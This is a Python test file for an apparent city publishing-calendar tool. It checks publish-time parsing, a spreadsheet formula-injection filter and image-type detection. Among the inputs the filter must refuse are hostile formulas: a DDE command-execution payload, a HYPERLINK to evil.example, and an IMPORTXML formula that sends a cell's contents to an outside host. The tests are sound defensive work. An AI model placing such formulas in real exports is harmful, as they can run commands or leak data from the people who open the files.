"""Single values: publishing times as staff write them, and the formula-injection rule."""

from __future__ import annotations

from datetime import UTC, date, datetime, time

import pytest

from koho.calendar.formula import formula_problem
from koho.calendar.media import image_kind
from koho.calendar.timeparse import parse_publish_at

NINE_JST = datetime(2027, 1, 5, 0, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    "value",
    [
        "2027-01-05 09:00",
        "2027-01-05 9:00",
        "2027/1/5 9:00",
        "2027/01/05 09:00:00",
        "2027-01-05T09:00",
        "2027-01-05T09:00:00+09:00",
        "2027-01-05T00:00:00Z",
        "2027-01-05 09:00 JST",
        "2027年1月5日 9時",
        "2027年1月5日 9時00分",
        "2027年1月5日(火) 9:00",
        "２０２７－０１－０５　０９：００",
        "2027-01-04T19:00:00-05:00",
        "2027-01-05 09:00+0900",
        datetime(2027, 1, 5, 9, 0),
        datetime(2027, 1, 5, 0, 0, tzinfo=UTC),
    ],
)
def test_publish_at_spellings(value):
    assert parse_publish_at(value) == NINE_JST


@pytest.mark.parametrize(
    ("value", "fragment"),
    [
        ("2027-01-05", "no time of day"),
        ("2027年1月5日", "no time of day"),
        (date(2027, 1, 5), "no time of day"),
        ("2027-02-29 09:00", "not a real date"),
        ("2027-01-05 24:00", "not a real date"),
        ("朝9時", "cannot read"),
        ("", "is empty"),
        (time(9, 0), "got time"),
        (20270105, "got int"),
        ("2027-01-05 09:00+99:00", "offset"),
    ],
)
def test_publish_at_refusals(value, fragment):
    with pytest.raises(ValueError, match=fragment):
        parse_publish_at(value)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example","x")',
        "＝SUM(A1)",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "-A1",
        "+$B$2*3",
        "-Sheet1!A1",
        "\t=1",
        "\r=1",
        "\t-A1",
        '@IMPORTXML(CONCAT("https://x",A1),"//a")',
    ],
)
def test_formula_like_text_is_refused(text):
    assert formula_problem(text)


@pytest.mark.parametrize(
    "text",
    [
        "-ご注意ください",
        "- 持ち物：タオル",
        "－ご案内－",
        "+1 便を増便します",
        "＋αの情報",
        "@koho_city さんより",
        "+81-3-1234-5678 までお電話ください",
        "-B2サイズのポスター",
        "--- お知らせ ---",
        "普通の文 =1+1",
        "",
        "-",
        "@",
    ],
)
def test_ordinary_text_starting_with_a_sign_is_accepted(text):
    assert formula_problem(text) is None


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n\0\0", "png"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"GIF89a..", "gif"),
        (b"RIFF\0\0\0\0WEBPVP8 ", "webp"),
        (b"%PDF-1.7", None),
        (b"", None),
    ],
)
def test_image_kind_is_judged_by_content(head, kind):
    assert image_kind(head) == kind
